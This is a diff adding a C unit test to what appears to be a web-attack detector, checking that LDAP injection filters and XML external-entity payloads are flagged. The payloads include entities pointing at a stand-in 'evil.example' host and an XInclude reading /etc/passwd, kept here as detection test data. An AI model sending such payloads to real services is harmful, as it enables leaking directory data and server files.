@@ -471,6 +471,29 @@ Test(webstruct, session_ids_in_links_and_cookies_set_by_a_request)
     cr_assert_str_eq(families_of("cookie; expires=friday", FK_WS_PARAM), "");
 }
 
+Test(webstruct, ldap_filters_and_xml_entities)
+{
+    static const char *const ldap[] = {"*)(uid=*))(|(uid=*", "admin)(&)", "x)(|(cn=*)",
+                                       "*)(objectclass=*", "jdoe)(|(userpassword>=a)"};
+    for (size_t i = 0; i < sizeof ldap / sizeof ldap[0]; i++)
+        cr_assert_str_eq(families_of(ldap[i], FK_WS_PARAM), "ldap", "%s", ldap[i]);
+    cr_assert_str_eq(families_of("(see note)(2)", FK_WS_PARAM), "");
+    cr_assert_str_eq(families_of("smith (jr)", FK_WS_PARAM), "");
+    cr_assert_str_eq(families_of("<?xml version=\"1.0\"?><!doctype r [<!entity x system "
+                                 "\"http://evil.example/x\">]><r>&x;</r>",
+                                 FK_WS_PARAM),
+                     "xxe");
+    cr_assert_str_eq(
+        families_of("<!doctype r [<!entity % p system \"http://e.example/p.dtd\"> %p;]>",
+                    FK_WS_HEADER),
+        "xxe");
+    cr_assert_str_eq(families_of("<x xmlns:xi=\"http://www.w3.org/2001/xinclude\"><xi:include "
+                                 "href=\"file:///etc/passwd\"/></x>",
+                                 FK_WS_PARAM),
+                     "lfi,xxe");
+    cr_assert_str_eq(families_of("<!entity copy \"&#169;\">", FK_WS_PARAM), "");
+}
+
 Test(webstruct, php_function_names_as_whole_values)
 {
     cr_assert_str_eq(families_of("shell_exec", FK_WS_PARAM), "code");
